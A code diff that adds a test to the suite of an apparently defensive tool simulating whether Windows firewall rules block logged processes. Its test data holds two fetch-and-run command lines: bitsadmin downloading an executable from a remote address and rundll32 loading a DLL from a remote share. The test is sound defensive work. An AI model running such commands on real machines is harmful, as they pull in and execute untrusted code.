@@ -162,6 +162,24 @@ describe("simulate", () => {
     expect(ids).not.toContain("windows/regsvr32/register");
   });
 
+  it("asks the firewall about whoever fetches", async () => {
+    const block = (program: string, more = "") =>
+      `New-NetFirewallRule -Name 'r' -DisplayName 'r' -Direction Outbound -Action Block -Program '%SystemRoot%\\System32\\${program}'${more}\n`;
+    const bits = {
+      Image: `${SYSTEM32}\\bitsadmin.exe`,
+      CommandLine: "bitsadmin.exe /transfer j http://8.8.4.4/a.exe C:\\Users\\ann\\a.exe",
+    };
+    const share = { Image: `${SYSTEM32}\\rundll32.exe`, CommandLine: "rundll32.exe \\\\8.8.4.4\\s\\a.dll,Start" };
+    const of = async (text: string, fields: typeof bits) => {
+      const logs = log(start(fields));
+      const { out } = await whatran(["simulate", "-P", write("fw.ps1", text), logs, "--format", "ndjson", "-q"]);
+      return decided(out).map(({ decision }) => decision);
+    };
+    expect(await of(block("bitsadmin.exe"), bits)).toEqual([]);
+    expect(await of(block("svchost.exe", " -Service 'BITS'"), bits)).toEqual(["block"]);
+    expect(await of(block("rundll32.exe"), share)).toEqual([]);
+  });
+
   it("says of no way that it passes where its program may start nothing", async () => {
     const policy = write(
       "settings.xml",
